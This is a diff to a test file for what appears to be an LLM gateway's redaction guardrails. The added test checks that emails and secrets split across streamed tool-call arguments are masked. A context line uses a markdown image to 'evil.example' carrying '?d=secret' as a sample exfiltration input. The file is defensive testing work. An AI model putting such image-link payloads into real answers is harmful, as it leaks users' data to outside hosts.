@@ -87,6 +87,38 @@ guardrails:
     expect(gw.audit.entries.at(-1)!.response).toBe(text);
   });
 
+  it('redacts a secret and an address split across streamed tool-call arguments (chat and Responses)', async () => {
+    const args = `{"to": "jane.doe@corp.example.com", "body": "your key is ${secret}"}`;
+    const cuts = [0, 9, 18, 23, 40, 60, 75, 100, args.length];
+    const pieces = cuts.slice(1).map((end, i) => args.slice(cuts[i], end));
+    upstream.behaviour = { ...upstream.behaviour, toolCall: { name: 'send_mail', arguments: pieces } };
+    const tools = [{ type: 'function' as const, function: { name: 'send_mail', parameters: { type: 'object' } } }];
+    const chat = await client(APP)
+      .chat.completions.stream({ model: 'm', messages: [{ role: 'user', content: 'mail it' }], tools })
+      .finalChatCompletion();
+    const call = chat.choices[0].message.tool_calls![0] as OpenAI.ChatCompletionMessageFunctionToolCall;
+    expect(call.function.name).toBe('send_mail');
+    expect(call.function.arguments).toBe('{"to": "j[REDACTED:email]", "body": "your key is [REDACTED:SEC-0001]"}');
+    expect(chat.choices[0].finish_reason).toBe('tool_calls');
+    expect(gw.audit.entries.at(-1)!.guardrails).toEqual([
+      expect.objectContaining({ guardrail: 'pii', where: 'choices[0].delta.tool_calls[0].function.arguments' }),
+      expect.objectContaining({ guardrail: 'secrets', where: 'choices[0].delta.tool_calls[0].function.arguments' }),
+    ]);
+
+    const stream = await client(APP).responses.create({ model: 'm', input: 'mail it', stream: true });
+    let streamed = '';
+    let done = '';
+    for await (const ev of stream) {
+      if (ev.type === 'response.function_call_arguments.delta') streamed += ev.delta;
+      if (ev.type === 'response.function_call_arguments.done') done = ev.arguments;
+    }
+    expect(streamed).toBe('{"to": "j[REDACTED:email]", "body": "your key is [REDACTED:SEC-0001]"}');
+    // the event that repeats the arguments whole is checked whole: the address goes from its first letter
+    expect(done).toBe('{"to": "[REDACTED:email]", "body": "your key is [REDACTED:SEC-0001]"}');
+    expect(JSON.stringify(gw.audit.entries)).not.toContain(secret);
+    upstream.behaviour = { ...upstream.behaviour, toolCall: undefined };
+  });
+
   it('strips a markdown image to a foreign domain from an answer', async () => {
     upstream.behaviour = { ...upstream.behaviour, words: ['See ', '![x](https://evil.example/p.png?d=secret)', ' here'] };
     const r = await client(APP).chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'hi' }] });
